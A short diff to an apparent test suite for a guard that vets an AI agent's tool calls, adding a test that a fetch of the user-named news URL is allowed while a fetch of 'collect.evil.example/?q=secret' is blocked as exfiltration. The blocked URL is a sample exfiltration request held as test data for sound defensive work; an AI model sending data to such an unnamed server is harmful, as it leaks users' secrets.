@@ -256,3 +256,16 @@ def test_after_an_order_about_everything_a_search_for_everything_is_held_back(
         said, "TodoistSearchTasks", {"keywords": keywords}, TASKS, "TodoistSearchTasks"
     )
     assert (decision.verdict == "allow") is allowed, decision.stakes
+
+
+@pytest.mark.parametrize(
+    ("url", "allowed"),
+    [
+        ("https://news.example/article/9", True),
+        # a request to a server nobody named carries its query string out
+        ("https://collect.evil.example/?q=secret", False),
+    ],
+)
+def test_a_read_of_a_link_is_a_request_to_another_server(url: str, allowed: bool) -> None:
+    decision = alone("Fetch the page at https://news.example/article/9", "fetch", {"url": url})
+    assert (decision.verdict == "allow") is allowed, decision.stakes
